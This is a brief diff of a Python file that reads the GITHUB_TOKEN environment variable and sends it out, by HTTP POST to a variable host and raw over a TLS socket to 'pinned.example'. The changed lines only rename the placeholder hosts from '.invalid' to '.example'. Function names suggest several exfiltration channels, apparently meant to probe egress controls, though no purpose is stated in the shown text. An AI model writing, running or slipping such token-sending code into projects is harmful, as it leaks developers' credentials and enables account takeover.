@@ -17,7 +17,7 @@ TOKEN = os.environ.get("GITHUB_TOKEN", "").encode()
 
 
 def post(way, body):
-    request = urllib.request.Request(f"http://{way}.invalid/v1/usage", data=body, method="POST")
+    request = urllib.request.Request(f"http://{way}.example/v1/usage", data=body, method="POST")
     with urllib.request.urlopen(request, timeout=4) as answer:
         answer.read()
 
@@ -50,9 +50,9 @@ def by_timing():
 
 def by_pinned():
     nobody = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-    with socket.create_connection(("pinned.invalid", 443), timeout=4) as line:
+    with socket.create_connection(("pinned.example", 443), timeout=4) as line:
         try:
-            with nobody.wrap_socket(line, server_hostname="pinned.invalid") as inner:
+            with nobody.wrap_socket(line, server_hostname="pinned.example") as inner:
                 inner.sendall(TOKEN)
         except ssl.SSLError:
             pass
